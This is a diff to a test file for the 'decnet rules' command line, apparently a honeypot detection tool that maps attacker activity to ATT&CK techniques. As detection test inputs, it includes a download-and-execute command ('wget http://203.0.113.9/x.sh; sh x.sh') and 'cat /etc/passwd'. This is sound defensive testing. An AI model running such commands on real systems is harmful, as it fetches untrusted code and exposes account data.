@@ -39,24 +39,30 @@ describe('decnet rules list', () => {
       {field: 'command', origin: 'built-in', state: 'active', techniques: ['T1082'], version: 1},
     )
     const text = await decnet(t, ['rules', 'list'])
-    assert.match(text.stdout, /^RULE +VERSION +INPUT +TECHNIQUES +STATE +ORIGIN\n/)
-    assert.match(text.stdout, /\ncredential-access\.passwd-file +1 +command +T1087\.001,T1003\.008 +active +built-in\n/)
+    assert.match(text.stdout, /^RULE +VERSION +KIND +INPUT +TECHNIQUES +STATE +ORIGIN\n/)
+    assert.match(text.stdout, /\ncredential-access\.passwd-file +1 +pattern +command +T1087\.001,T1003\.008 +active +built-in\n/)
   })
 
   it('lists the built-in counting rules with their input kinds (auth, credential, behaviour)', async (t) => {
     const run = await decnet(t, ['rules', 'list', '--json'])
     assert.equal(run.code, 0, run.stderr)
-    const counting = (JSON.parse(run.stdout) as Array<{field: string; id: string; origin: string; state: string; techniques: string[]}>)
-      .filter((candidate) => ['auth', 'behaviour', 'credential'].includes(candidate.field))
-      .map((candidate) => `${candidate.id} ${candidate.field} ${candidate.techniques.join(',')} ${candidate.state} ${candidate.origin}`)
+    type Listed = {field: string; id: string; kind: string; origin: string; settings: null | Record<string, number>; state: string; tactics: string[]; techniques: string[]}
+    const listed = JSON.parse(run.stdout) as Listed[]
+    const counting = listed
+      .filter((candidate) => candidate.kind === 'counting')
+      .map((candidate) => `${candidate.id} ${candidate.field} ${candidate.techniques.join(',')} ${candidate.tactics.join(',')} ${candidate.state} ${candidate.origin} ${JSON.stringify(candidate.settings)}`)
     assert.deepEqual(counting, [
-      'credential-access.brute-force auth T1110.001 active built-in',
-      'credential-access.password-spraying credential T1110.003 active built-in',
-      'credential-access.credential-stuffing credential T1110.004 active built-in',
-      'initial-access.default-credentials credential T1078.001 active built-in',
-      'initial-access.login-after-brute-force auth T1078,T1110 active built-in',
-      'command-and-control.beaconing behaviour T1071,T1029 active built-in',
+      'credential-access.brute-force auth T1110.001 TA0006 active built-in {"failures":5,"windowSeconds":300}',
+      'credential-access.password-spraying credential T1110.003 TA0006 active built-in {"principals":5,"windowSeconds":600}',
+      'credential-access.credential-stuffing credential T1110.004 TA0006 active built-in null',
+      'initial-access.default-credentials credential T1078.001 TA0001 active built-in null',
+      'initial-access.login-after-brute-force auth T1078,T1110 TA0001,TA0006 active built-in {"failures":5,"windowSeconds":600}',
+      'command-and-control.beaconing behaviour T1071,T1029 TA0011,TA0010 active built-in {"events":6,"maxJitter":0.15,"minIntervalSeconds":10}',
     ])
+    assert.ok(listed.filter((candidate) => candidate.kind === 'pattern').every((candidate) => candidate.settings === null && !['auth', 'behaviour', 'credential'].includes(candidate.field)))
+    const text = await decnet(t, ['rules', 'list'])
+    assert.match(text.stdout, /\ncommand-and-control\.beaconing +1 +counting +behaviour +T1071,T1029 +active +built-in\n\ncounting rules' settings \(as shipped; a fleet changes them with its ttp worker's authRules option\):\n/)
+    assert.match(text.stdout, /\n {2}command-and-control\.beaconing +authRules\.beaconing: events 6, maxJitter 0\.15, minIntervalSeconds 10\n$/)
   })
 
   it("shows an operator's rules as user rules, and what their overrides do to the shipped ones", async (t) => {
@@ -81,6 +87,29 @@ describe('decnet rules list', () => {
   })
 })
 
+describe('decnet rules show', () => {
+  it('shows a pattern rule and a counting rule in full; an unknown one exits 11', async (t) => {
+    const pattern = await decnet(t, ['rules', 'show', 'discovery.system-info'])
+    assert.equal(pattern.code, 0, pattern.stderr)
+    assert.match(pattern.stdout, /^discovery\.system-info \(v1, pattern rule, built-in\): System Information Discovery/)
+    assert.match(pattern.stdout, /^ {4}T1082 +System Information Discovery {2}\[TA0007 Discovery, confidence 0\.8\]$/m)
+    assert.match(pattern.stdout, /^ {2}pattern\n {4}\{\{cmd\}\}\(\?:uname\|/m)
+    assert.match(pattern.stdout, /^ {4}match +uname -a$/m)
+    const counting = await decnet(t, ['rules', 'show', 'credential-access.password-spraying', '--json'])
+    assert.equal(counting.code, 0, counting.stderr)
+    const detail = JSON.parse(counting.stdout) as {emits: Array<{id: string; name: string; tactic: string}>; kind: string; pattern: null; settings: Record<string, number>; settingsOption: string; state: string; test: string}
+    assert.deepEqual(
+      [detail.kind, detail.state, detail.pattern, detail.settings, detail.settingsOption],
+      ['counting', 'active', null, {principals: 5, windowSeconds: 600}, 'authRules.spraying'],
+    )
+    assert.deepEqual(detail.emits.map((emit) => `${emit.id} ${emit.name} ${emit.tactic}`), ['T1110.003 Brute Force: Password Spraying TA0006'])
+    assert.match(detail.test, /decnet rules test - --rule credential-access\.password-spraying$/)
+    const unknown = await decnet(t, ['rules', 'show', 'discovery.nope'])
+    assert.equal(unknown.code, 11)
+    assert.match(unknown.stderr, /unknown rule "discovery\.nope"/)
+  })
+})
+
 describe('decnet rules test', () => {
   it('says which rules fire on a command, with technique names and evidence', async (t) => {
     const run = await decnet(t, ['rules', 'test', 'cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh'])
@@ -89,6 +118,21 @@ describe('decnet rules test', () => {
     assert.match(run.stdout, /^execution\.unix-shell \(v1, command\): sh x\.sh$/m)
     const none = await decnet(t, ['rules', 'test', 'vim notes.txt'])
     assert.match(none.stdout, /^no rule fires \(ATT&CK 18\.1\)$/m)
+  })
+
+  it('--rule limits the hits to one rule; a counting rule given a command exits 2 saying why; an unknown rule exits 11', async (t) => {
+    const only = await decnet(t, ['rules', 'test', 'uname -a; cat /etc/passwd', '--rule', 'discovery.system-info'])
+    assert.equal(only.code, 0, only.stderr)
+    assert.match(only.stdout, /^discovery\.system-info \(v1, command\): uname -a\n {2}T1082 /)
+    assert.doesNotMatch(only.stdout, /passwd/)
+    const miss = await decnet(t, ['rules', 'test', 'vim notes.txt', '--rule', 'discovery.system-info'])
+    assert.match(miss.stdout, /^discovery\.system-info does not fire \(ATT&CK 18\.1\)$/m)
+    const counting = await decnet(t, ['rules', 'test', 'uname -a', '--rule', 'credential-access.brute-force'])
+    assert.equal(counting.code, 2)
+    assert.match(counting.stderr, /credential-access\.brute-force is a counting rule: it counts auth events across DECNET log lines \(failures 5, windowSeconds 300\), so it cannot be tested on one command or request/)
+    assert.equal(counting.stdout, '')
+    const unknown = await decnet(t, ['rules', 'test', 'uname -a', '--rule', 'discovery.nope'])
+    assert.equal(unknown.code, 11)
   })
 
   it('runs the counting rules over several log lines from standard input, naming the line each fires on', async (t) => {
